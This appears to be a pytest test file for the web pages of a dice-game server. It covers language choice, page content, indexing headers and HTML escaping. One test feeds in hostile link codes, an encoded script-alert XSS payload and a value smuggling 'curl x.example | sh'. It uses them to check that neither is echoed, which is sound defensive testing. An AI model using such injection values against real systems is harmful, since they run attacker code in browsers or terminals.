"""The plain pages: in the reader's language, without a script, and alike for every code."""

from __future__ import annotations

from pathlib import Path

import pytest

from cubilete.i18n import LANGUAGES, catalogue
from cubilete.server.pages import page, wanted_language
from tests.server.visits import visiting


@pytest.mark.parametrize(
    ("header", "language"),
    [
        ("", "en"),
        ("es", "es"),
        ("es-MX,en;q=0.5", "es"),
        ("fr, vi;q=0.8", "vi"),
        ("VI-vn", "vi"),
        ("de", "en"),
        (",,;q=1,*", "en"),
        ("x" * 10_000 + ",es", "en"),
    ],
)
def test_the_first_language_that_we_speak_is_used(header: str, language: str) -> None:
    """What the browser wants most, among those there are, else English."""
    assert language == wanted_language(header)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_the_home_page_says_how_to_begin(tmp_path: Path, language: str) -> None:
    """In each language the page says how to lay a table and how to join one, with the address."""
    async with visiting(tmp_path) as (place, door):
        said = await (await door.stranger()).ask("GET", "/", **{"Accept-Language": language})

        say = catalogue(language).text
        assert f'<html lang="{language}">' in said.data
        assert say("site-new").split(":")[0].split("<")[0] in said.data
        assert f"cubilete join --new liars-dice {place.url}" in said.data
        assert f"cubilete join {place.url}/t/" in said.data


async def test_a_tables_page_is_the_same_for_every_code(tmp_path: Path) -> None:
    """Whoever looks at a link is not told whether the table is there, and no engine lists it."""
    async with visiting(tmp_path) as (place, door):
        ana = await door.guest()
        right = await ana.lay()
        pages = [await ana.get(f"/t/{code}") for code in (right, "00000000")]

        assert [200, 200] == [said.status for said in pages]
        assert pages[0].data.replace(right, "00000000") == pages[1].data
        assert f"cubilete join {place.url}/t/{right}" in pages[0].data
        assert ["noindex"] * 2 == [said.headers["X-Robots-Tag"] for said in pages]


@pytest.mark.parametrize(
    "code", ["%3Cscript%3Ealert(1)%3C%2Fscript%3E", "ABCDEFGH;%20curl%20x.example%20%7C%20sh"]
)
async def test_what_is_no_code_is_nowhere_on_the_page(tmp_path: Path, code: str) -> None:
    """Neither a browser nor a terminal is given what a stranger has put into a link."""
    async with visiting(tmp_path) as (place, door):
        said = await (await door.stranger()).get(f"/t/{code}")

        assert f"cubilete join {place.url}/t/…<" in said.data
        assert not [word for word in ("alert", "curl") if word in said.data]


async def test_pages_need_no_script_and_no_style(tmp_path: Path) -> None:
    """The pages work under the policy that all answers carry: nothing in them is executed."""
    async with visiting(tmp_path) as (_, door):
        for path in ("/", "/move", "/t/ABCDEFGH"):
            said = await (await door.stranger()).get(path)
            assert "text/html" == said.headers["Content-Type"].partition(";")[0]
            assert not [
                word for word in ("<script", "<style", "style=", " on") if word in said.data
            ]


def test_a_title_is_text() -> None:
    """What a page is called is escaped wherever it stands."""
    shown = page("en", "<b>", ["one", "two"]).text

    assert shown is not None
    assert "<b>" not in shown
    assert 2 == shown.count("&lt;b&gt;")
    assert "<p>one</p>\n<p>two</p>" in shown
